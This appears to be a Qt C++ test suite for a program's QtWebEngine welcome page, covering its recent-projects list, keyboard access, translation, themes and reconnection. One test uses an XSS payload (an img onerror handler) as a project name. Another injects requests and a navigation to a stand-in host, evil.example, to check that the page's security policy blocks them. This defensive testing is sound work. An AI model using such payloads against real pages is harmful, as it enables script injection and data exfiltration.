// SPDX-License-Identifier: MIT
// The home page in the real browser engine, with the real main window behind it.
#include "welcometest.h"

#include <actionmanager/actionmanager.h>
#include <actionmanager/contextaction.h>
#include <appearance/ilanguagemanager.h>
#include <icore.h>
#include <welcomepage.h>

#include <QTcpSocket>
#include <QWebChannel>
#include <QWebEnginePage>
#include <QWebEngineView>
#include <QWebSocketServer>

#include <csignal>

// Looks again at once: what it looks at asks the page, which is the wait. QTRY_COMPARE sleeps in between.
#define SOON(actual, expected) \
    for (const QDeadlineTimer end(10000); !((actual) == (expected)) && !end.hasExpired();) \
        QCoreApplication::processEvents(); \
    QCOMPARE(actual, expected)

namespace {

const QString s_unicode = QStringLiteral("Über 海藻 Ламинария");
const QString s_hostile = QStringLiteral("<img src=x onerror=document.title='broken'> %1 & \"'");

// Contrast of each text in the header with what lies behind it, the drawing included.
const QString s_headerContrasts = R"(
    (() => {
        const numbers = colour => colour.match(/[\d.]+/g).map(Number);
        const light = rgb => rgb.slice(0, 3)
            .map(v => v / 255 <= 0.03928 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4)
            .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
        const kelp = getComputedStyle(document.querySelector('.kelp'));
        const behind = element => {
            const own = numbers(getComputedStyle(element).backgroundColor);
            if (own[3] === 0)
                return behind(element.parentElement);
            return element.localName !== 'header' ? own
                : own.map((v, i) => v + (numbers(kelp.fill)[i] - v) * kelp.opacity);
        };
        return [...document.querySelectorAll('header :is(h1, p, span, kbd)')].map(element => {
            const [low, high] = [numbers(getComputedStyle(element).color), behind(element)].map(light).sort((a, b) => a - b);
            return (high + 0.05) / (low + 0.05) * getComputedStyle(element).opacity;
        });
    })()
)";

/// A language in which every text of the page stands in brackets.
class Brackets : public QTranslator
{
public:
    Brackets() { QCoreApplication::installTranslator(this); }
    [[nodiscard]] bool isEmpty() const override { return false; }
    [[nodiscard]] QString translate(
        const char *pContext, const char *pSource, const char *, int) const override
    {
        return qstrcmp(pContext, "WelcomePage") == 0 ? '[' + QString::fromLatin1(pSource) + ']' : QString();
    }
};

class Desktop : public QObject
{
    Q_OBJECT

public:
    Desktop()
    {
        for (const char *pScheme : {"http", "https", "file"})
            QDesktopServices::setUrlHandler(pScheme, this, "open");
    }
    ~Desktop() override
    {
        for (const char *pScheme : {"http", "https", "file"})
            QDesktopServices::unsetUrlHandler(pScheme);
    }
    Q_INVOKABLE void open(const QUrl &url) { opened.append(url.toString()); }

    QStringList opened;
};

} // namespace

class tst_WelcomePage : public WelcomeTest
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        const QString strExamples = ICore::resourcePath() + "/examples";
        QDir().mkpath(strExamples);
        for (const char *pName : {"/landscape.kelpa", "/card.kelpa"}) {
            QFile::remove(strExamples + pName);
            QVERIFY(QFile::copy(KELPA_EXAMPLES + QString(pName), strExamples + pName));
        }
        WelcomeTest::init();
        ExtensionSystem::PluginManager::settings()->setValue("Kelpa/Language", "de_DE");
        ILanguageManager::getInstance().initialize();
        ILanguageManager::getInstance().setSettings(nullptr);
        m_strFirst = m_pProgram->write("a b.kelpa");
        m_pWindow->resize(1100, 800);
        m_pWindow->show();
        m_pWindow->activateWindow();
        m_pWindow->setVisibleWelcomeWidget(true);
        QTRY_VERIFY_WITH_TIMEOUT(view() && view()->title() == WelcomePage::title(), 60000);
    }

    // To start the engine takes long: each case has the same one, and the page anew.
    void init()
    {
        m_pDesktop = std::make_unique<Desktop>();
        for (const QString &strFile : recent())
            IRecentFilesManager::getInstance()->removeFile(strFile);
        for (const QString &strFile : {QString("/p/c.kelpa"), QString("/gone/b.kelpa"), m_strFirst})
            addRecent(strFile);
        m_pWindow->activateWindow();
        m_pWidget->setFocus();
        QTRY_VERIFY(QApplication::focusWidget() && view()->isAncestorOf(QApplication::focusWidget()));
        js("window.isOld = true");
        view()->reload();
        SOON(js("window.isOld ? 'old' : document.querySelectorAll('nav a, #recent strong').length"), 5 + 3);
    }

    void cleanup()
    {
        for (const auto &pDocument : std::exchange(m_pFactory->documents, {})) {
            if (pDocument)
                emit pDocument->requestClosing(false);
        }
        delete m_pFactory->pDialog;
        m_pWidget->setPalette({});
        m_pWidget->unsetLayoutDirection();
        m_pWindow->setScreen(screenOf(96));
        m_pDesktop.reset();
    }

    void cleanupTestCase() { WelcomeTest::cleanup(); }

    void listOfThePageMenuAndSettingsAgree()
    {
        QCOMPARE(names(), QStringList({"a b", "b", "c"}));
        QCOMPARE(js("document.querySelector('#recent li:nth-child(2) span').textContent"), "/gone");
        click("#recent li:nth-child(2) .small:last-child");
        SOON(names(), QStringList({"a b", "c"}));
        QCOMPARE(recent(), QStringList({m_strFirst, "/p/c.kelpa"}));
        QCOMPARE(
            ActionManager::getAction("File.Recent_Projects.Project_2")->getAction()->text(), "2. /p/c.kelpa");
    }

    void namesAreTextWhateverIsInThem()
    {
        for (const QString &strName : {s_hostile, s_unicode})
            addRecent("/x/" + strName + ".kelpa");
        addRecent("C:\\Projects\\w.KELPAPACK");
        m_pWindow->setVisibleWelcomeWidget(true);
        SOON(names(), QStringList({"w", s_unicode, s_hostile, "a b", "b", "c"}));
        QCOMPARE(count("#recent img"), 0);
        click("#recent li:nth-child(3) .small:last-child");
        SOON(names(), QStringList({"w", s_unicode, "a b", "b", "c"}));
        QCOMPARE(status(), s_hostile + " was removed from the list.");
        QCOMPARE(view()->title(), WelcomePage::title());
    }

    void projectOpensAndThePageComesBackUpToDate()
    {
        click("#recent li:first-child .open");
        SOON(m_pFactory->documents.size(), 1);
        QCOMPARE(m_pFactory->documents.first()->getFileName(), m_strFirst);
        QVERIFY(m_pWidget->isHidden());
        addRecent("/p/later.kelpa");
        emit m_pFactory->documents.first()->requestClosing(false);
        QVERIFY(!m_pWidget->isHidden());
        SOON(names(), QStringList({"later", "a b", "b", "c"}));
    }

    void exampleOpens()
    {
        QCOMPARE(count("#examples li"), 2);
        SOON(js("[...document.images].every(i => i.complete && i.naturalWidth > 0)").toBool(), true);
        click("#examples li:first-child button");
        SOON(m_pFactory->documents.size(), 1);
        QCOMPARE(m_pFactory->documents.first()->getFileName(),
            ICore::resourcePath() + "/examples/landscape.kelpa");
    }

    void doubleClickRemovesOneProject()
    {
        const QVariantList middle =
            js("(r => [r.x + r.width / 2, r.y + r.height / 2])(document.querySelector("
               "'#recent .small:last-child').getBoundingClientRect())")
                .toList();
        const QPointF at(middle.at(0).toDouble(), middle.at(1).toDouble());
        const auto click = [&](ulong nMs) {
            for (const auto type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
                QMouseEvent event(type, at, view()->mapToGlobal(at), Qt::LeftButton, Qt::LeftButton, {});
                event.setTimestamp(nMs);
                QCoreApplication::sendEvent(view()->focusProxy(), &event);
            }
        };
        click(1000);
        SOON(names(), QStringList({"b", "c"}));
        click(1200);
        click(3000);
        SOON(names(), QStringList("c"));
    }

    void missingProjectMayLeaveTheList()
    {
        BoxAnswers boxes({QMessageBox::Yes});
        click("#recent li:nth-child(2) .small");
        SOON(names(), QStringList({"a b", "c"}));
        QCOMPARE(boxes.boxes.size(), 1);
        click("#recent li:first-child .small");
        SOON(m_pDesktop->opened, QStringList("file:///" + m_pProgram->folder.path()));
    }

    void linksGoToTheBrowser()
    {
        SOON(count("nav a"), 5);
        click("nav a:nth-child(2)");
        SOON(m_pDesktop->opened, QStringList("https://community.kelpa.example/"));
        QCOMPARE(view()->url(), WelcomePage::url());
    }

    // Tab and Return alone, from the window to a new project.
    void keyboardReachesEverything()
    {
        const int nStops = count("button, a");
        QSet<int> seen;
        for (int i = 0; i < nStops; ++i) {
            press(Qt::Key_Tab);
            SOON(!seen.contains(focused()) && focused() >= 0, true);
            seen.insert(focused());
        }
        js("document.querySelector('[data-command=newProject]').focus()");
        m_pFactory->nDialogResult = QDialog::Accepted;
        m_pFactory->strNewPath = m_pProgram->filePath("new.kelpa");
        press(Qt::Key_Return);
        SOON(m_pFactory->documents.size(), 1);
        QCOMPARE(m_pFactory->documents.first()->getFileName(), m_pFactory->strNewPath);
    }

    void keysInTheList()
    {
        js("document.querySelector('#recent .open').focus()");
        const QString strFocused = "document.activeElement.title";
        press(Qt::Key_Down);
        SOON(js(strFocused), "/gone/b.kelpa");
        press(Qt::Key_Delete);
        SOON(names(), QStringList({"a b", "c"}));
        QCOMPARE(js(strFocused), "/p/c.kelpa");
        press(Qt::Key_Delete);
        SOON(js(strFocused), m_strFirst);
        press(Qt::Key_Delete);
        SOON(names(), QStringList());
        QCOMPARE(js("document.activeElement.dataset.command"), "newProject");
        QVERIFY(js("document.getElementById('no-recent').checkVisibility?.() ?? "
                   "!document.getElementById('no-recent').hidden")
                    .toBool());
    }

    void focusStaysOnTheProject()
    {
        js("document.querySelector('#recent li:nth-child(2) .open').focus()");
        addRecent("/p/later.kelpa");
        emit m_pWindow->getMdiArea()->resetRecentFiles();
        SOON(names(), QStringList({"later", "a b", "b", "c"}));
        QCOMPARE(js("document.activeElement.title"), "/gone/b.kelpa");
        for (const Qt::KeyboardModifier modifier : {Qt::ControlModifier, Qt::AltModifier, Qt::MetaModifier})
            QTest::keyClick(QApplication::focusWidget(), Qt::Key_Delete, modifier);
        press(Qt::Key_Down);
        press(Qt::Key_Delete);
        SOON(names().contains("c"), false);
        QCOMPARE(names(), QStringList({"later", "a b", "b"}));
        QCOMPARE(js("document.activeElement.title"), "/gone/b.kelpa");
    }

    void focusStaysWhenTheColoursChange_data()
    {
        const auto row = columns<QString>("selector");
        row("a button of a project", "#recent li:nth-child(2) .small");
        row("an example", "#examples li:nth-child(2) button");
        row("a link", "nav a:nth-child(3)");
    }

    void focusStaysWhenTheColoursChange()
    {
        QFETCH(const QString, selector);
        SOON(count("nav a"), 5);
        js("window.old = document.querySelector('" + selector + "'); old.focus()");
        QPalette palette = m_pWidget->palette();
        palette.setColor(QPalette::Window, QColor("#102030"));
        m_pWidget->setPalette(palette);
        SOON(js("old.isConnected"), false);
        QVERIFY(js("document.activeElement === document.querySelector('" + selector + "')").toBool());
    }

    void everyControlHasANameAndEveryPartARole()
    {
        QCOMPARE(js("[...document.querySelectorAll('button, a')].filter(e => !(e.ariaLabel || "
                    "e.textContent).trim()).length")
                     .toInt(),
            0);
        QCOMPARE(js("[...document.querySelectorAll('section, nav, ul')].filter(e => !e.ariaLabel && "
                    "!document.getElementById(e.getAttribute('aria-labelledby'))?.textContent).length")
                     .toInt(),
            0);
        QCOMPARE(js("[...document.querySelectorAll('h1, main, header, footer, [role=status]')]"
                    ".map(e => e.localName).join()"),
            "header,h1,p,main,footer");
        QVERIFY(js("document.querySelector('.small').ariaLabel").toString().contains("a b"));
        QCOMPARE(js("[...document.querySelectorAll('.small:last-child')].slice(1).map(e => "
                    "document.getElementById(e.getAttribute('aria-describedby')).textContent).join()"),
            "/gone,/p");
    }

    void pageSpeaksTheLanguageOfTheProgram()
    {
        SOON(js("document.documentElement.lang"), "de-DE");
        SOON(js("document.getElementById('version').textContent"), "Version 3.1.4");
        const Brackets brackets;
        QEvent change(QEvent::LanguageChange);
        QCoreApplication::sendEvent(m_pWidget, &change);
        const QString strTexts =
            "[...document.querySelectorAll('h2, p, nav a, .action > span, .example > *')]"
            ".map(e => e.textContent).filter(t => t && !/^\\[.*\\]$/.test(t)).join()";
        SOON(js("document.querySelector('h2').textContent"), "[Recent Projects]");
        SOON(js(strTexts), "");
        QVERIFY(
            js("[...document.querySelectorAll('[aria-label]')].every(e => /^\\[.*\\]$/.test(e.ariaLabel))")
                .toBool());
    }

    void pathsReadFromLeftToRightAtTheEdgeWhereTheirLineBegins()
    {
        m_pWidget->setLayoutDirection(Qt::RightToLeft);
        SOON(js("document.documentElement.dir"), "rtl");
        js("const at = i => { const r = document.createRange(); const t = "
           "document.querySelector('#recent li:nth-child(2) span').firstChild; r.setStart(t, i); "
           "r.setEnd(t, i + 1); return r.getBoundingClientRect(); }");
        QVERIFY(js("at(0).left < at(1).left").toBool());
        QVERIFY(js("document.querySelector('#recent li:nth-child(2) .open').getBoundingClientRect().right "
                   "- at(4).right < 80")
                    .toBool());
    }

    void pageFollowsColoursAndScale()
    {
        QPalette palette = m_pWidget->palette();
        palette.setColor(QPalette::Window, QColor("#102030"));
        palette.setColor(QPalette::WindowText, QColor("#f0f0f0"));
        m_pWidget->setPalette(palette);
        SOON(js("getComputedStyle(document.body).backgroundColor"), "rgb(16, 32, 48)");
        QCOMPARE(js("getComputedStyle(document.body).color"), "rgb(240, 240, 240)");
        QCOMPARE(view()->zoomFactor(), 1.0);
        m_pWindow->setScreen(screenOf(144));
        SOON(view()->zoomFactor(), 1.5);
        js("addEventListener('wheel', e => { document.title = e.defaultPrevented ? 'same size' : 'zoom'; })");
        QWheelEvent wheel(QPointF(300, 300), view()->mapToGlobal(QPointF(300, 300)), {}, {0, 120}, {},
            Qt::ControlModifier, Qt::NoScrollPhase, false);
        const auto titleAfterWheel = [&] {
            QCoreApplication::sendEvent(
                view()->focusProxy(), &wheel); // one is lost while the page lays itself out
            return view()->title();
        };
        SOON(titleAfterWheel(), "same size");
        SOON(qRound(js("window.innerWidth").toInt() * 1.5 / 10), qRound(view()->width() / 10.0));
        QCOMPARE(names(), QStringList({"a b", "b", "c"}));
    }

    void headerStandsOutInEachTheme_data()
    {
        const auto row = columns<QString>("file");
        row("light", "light.json");
        row("dark", "dark.json");
    }
    void headerStandsOutInEachTheme()
    {
        QFETCH(const QString, file);
        QFile theme(QStringLiteral(KELPA_THEMES "/") + file);
        QVERIFY(theme.open(QIODevice::ReadOnly));
        const QJsonObject colours = QJsonDocument::fromJson(theme.readAll()).object();
        QPalette palette = m_pWidget->palette();
        for (const auto &[role, pName] :
            {std::pair {QPalette::Window, "window"}, {QPalette::WindowText, "text"},
                {QPalette::Highlight, "selection"}, {QPalette::HighlightedText, "onSelection"}})
            palette.setColor(role, QColor(colours.value(QLatin1String(pName)).toString()));
        m_pWidget->setPalette(palette);
        SOON(js("getComputedStyle(document.querySelector('header')).backgroundColor"),
            "rgb(" + rgb(palette.color(QPalette::Highlight)) + ")");
        const QVariantList corner =
            js("(r => [r.x + 20, r.y + 5])(document.querySelector('header').getBoundingClientRect())")
                .toList();
        SOON(m_pWidget->grab().toImage().pixelColor(corner.at(0).toInt(), corner.at(1).toInt()),
            palette.color(QPalette::Highlight));
        const QVariantList ratios = js(s_headerContrasts).toList();
        QCOMPARE(ratios.size(), 6);
        for (const QVariant &ratio : ratios)
            QVERIFY2(ratio.toDouble() >= 4.5, qPrintable(ratio.toString()));
    }

    void nothingLeavesTheMachine()
    {
        auto *pWebView = m_pWidget->findChild<WebView *>();
        QSignalSpy requests(pWebView, &WebView::requested);
        view()->reload();
        const QString strServer = WelcomePage::data(*m_pWidget).value("server").toString();
        QTRY_VERIFY(allowed(requests).contains(strServer));
        SOON(names(), QStringList({"a b", "b", "c"}));
        js("window.refused = []; document.addEventListener('securitypolicyviolation', "
           "event => refused.push(event.blockedURI));"
           "fetch('https://evil.example/fetch').catch(() => 0);"
           "new Image().src = 'http://evil.example/image';"
           "document.body.append(Object.assign(document.createElement('script'), {src: "
           "'https://evil.example/script'}));"
           "try { new WebSocket('ws://evil.example/socket') } catch (e) {}"
           "navigator.sendBeacon('https://evil.example/beacon', 'x'); 0");
        SOON(
            js("refused.map(url => url.split('/').pop()).sort().join()"), "beacon,fetch,image,script,socket");
        const QSignalSpy loads(view()->page(), &QWebEnginePage::loadFinished);
        const QSignalSpy failures(pWebView, &WebView::loadFinished);
        js("window.stays = true; location = 'https://evil.example/go'; 0");
        QTRY_VERIFY(loads.contains(QVariantList {false}));
        QVERIFY(failures.isEmpty());
        QVERIFY(js("window.stays").toBool());
        const QStringList urls = allowed(requests);
        for (const QString &strUrl : urls)
            QVERIFY2(
                strUrl.startsWith("qrc:///") || strUrl.startsWith("ws://127.0.0.1:"), qPrintable(strUrl));
        QCOMPARE(view()->url(), WelcomePage::url());
    }

    // At first without what the page calls there.
    void pageFindsTheProgramAgain()
    {
        SOON(count("nav a"), 5);
        QWebChannel *pChannel = m_pWindow->getChannel();
        QObject *pObject = pChannel->registeredObjects().value("kpwelcome");
        QVERIFY(pObject);
        pChannel->deregisterObject(pObject);
        addRecent("/p/meanwhile.kelpa");
        breakConnections();
        const char *pEnabled = ":is(button, a):not([aria-disabled=true])";
        const QString strLost = "The page has lost the program and is trying to reach it again.";
        SOON(count(pEnabled), 0);
        QCOMPARE(status(), strLost);
        js("document.getElementById('status').textContent = ''");
        SOON(status(), strLost);
        pChannel->registerObject("kpwelcome", pObject);
        SOON(names(), QStringList({"meanwhile", "a b", "b", "c"}));
        QCOMPARE(status(), "The page has reached the program again.");
        QVERIFY(count(pEnabled) > 0);
    }

    void lostPageSaysSoAndWaitsLongerEachTime()
    {
        js("window.starts = []; const Real = WebSocket; WebSocket = function(url) { "
           "window.starts.push(performance.now()); return new Real(url); }");
        const quint16 nPort = m_pWindow->getServer()->serverPort();
        m_pWindow->getServer()->close();
        breakConnections();
        SOON(js("document.querySelector('.action').getAttribute('aria-disabled')"), "true");
        click("[data-command=newProject]");
        SOON(js("window.starts.length").toInt() >= 3, true);
        QVERIFY(js("starts[2] - starts[1] > 1.5 * (starts[1] - starts[0])").toBool()
            || js("starts[2] - starts[1] >= 450").toBool());
        QVERIFY(m_pFactory->documents.isEmpty());
        QVERIFY(status().contains("lost"));
        QVERIFY(m_pWindow->getServer()->listen(QHostAddress::LocalHost, nPort));
    }

    void pageThatDiesIsLoadedOnceMoreThenListedWithout()
    {
        QTest::ignoreMessage(QtWarningMsg, "The home page failed and is loaded again.");
        killPage();
        QSignalSpy titles(m_pWidget->findChild<WebView *>(), &WebView::titleChanged);
        QTRY_VERIFY_WITH_TIMEOUT(titles.contains(QVariantList {WelcomePage::title()}), 30000);
        SOON(names(), QStringList({"a b", "b", "c"}));
        QTest::ignoreMessage(
            QtWarningMsg, "The home page failed again; the recent projects are listed without it.");
        killPage();
        QTRY_VERIFY(m_pWidget->findChild<RecentList *>());
        QVERIFY(!view());
        QCOMPARE(m_pWidget->findChild<QListWidget *>()->count(), 3);
    }

private:
    [[nodiscard]] QWebEngineView *view() const { return m_pWidget->findChild<QWebEngineView *>(); }

    QVariant js(const QString &strCode) const
    {
        QEventLoop loop;
        QVariant result("no answer");
        QTimer::singleShot(5000, &loop, &QEventLoop::quit);
        view()->page()->runJavaScript(strCode, [&result, pLoop = QPointer(&loop)](const QVariant &value) {
            if (!pLoop)
                return;
            result = value;
            pLoop->quit();
        });
        loop.exec();
        return result;
    }

    [[nodiscard]] QStringList names() const
    {
        return js("[...document.querySelectorAll('#recent strong')].map(e => e.textContent)").toStringList();
    }

    void click(const char *pSelector) const
    {
        js(QStringLiteral("document.querySelector('%1').click()").arg(QLatin1String(pSelector)));
    }

    [[nodiscard]] QString status() const
    {
        return js("document.getElementById('status').textContent").toString();
    }

    [[nodiscard]] int count(const char *pSelector) const
    {
        return js(QStringLiteral("document.querySelectorAll('%1').length").arg(QLatin1String(pSelector)))
            .toInt();
    }

    void breakConnections() const
    {
        for (QTcpSocket *pSocket : m_pWindow->getServer()->findChildren<QTcpSocket *>())
            pSocket->abort();
    }

    static void press(Qt::Key key) { QTest::keyClick(QApplication::focusWidget(), key); }

    [[nodiscard]] int focused() const
    {
        return js("[...document.querySelectorAll('button, a')].indexOf(document.activeElement)").toInt();
    }

    static QString rgb(const QColor &colour)
    {
        return QStringLiteral("%1, %2, %3").arg(colour.red()).arg(colour.green()).arg(colour.blue());
    }

    void killPage() const
    {
        QSignalSpy dead(view()->page(), &QWebEnginePage::renderProcessTerminated);
        ::kill(static_cast<pid_t>(view()->page()->renderProcessPid()), SIGKILL);
        QVERIFY(dead.wait(20000));
    }

    static QStringList allowed(const QSignalSpy &requests)
    {
        QStringList urls;
        for (const QVariantList &request : requests) {
            if (request.at(1).toBool())
                urls.append(request.at(0).toUrl().toString());
        }
        return urls;
    }

    static QStringList recent() { return IRecentFilesManager::getInstance()->getRecentFiles(); }

    std::unique_ptr<Desktop> m_pDesktop;
    QString m_strFirst;
};

int main(int argc, char *argv[])
{
    qputenv("QTWEBENGINE_CHROMIUM_FLAGS", "--disable-gpu");
    const QApplication app(argc, argv);
    QCoreApplication::addLibraryPath(QStringLiteral(KELPA_PROGRAM_DIR));
    tst_WelcomePage test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_welcomepage.moc"
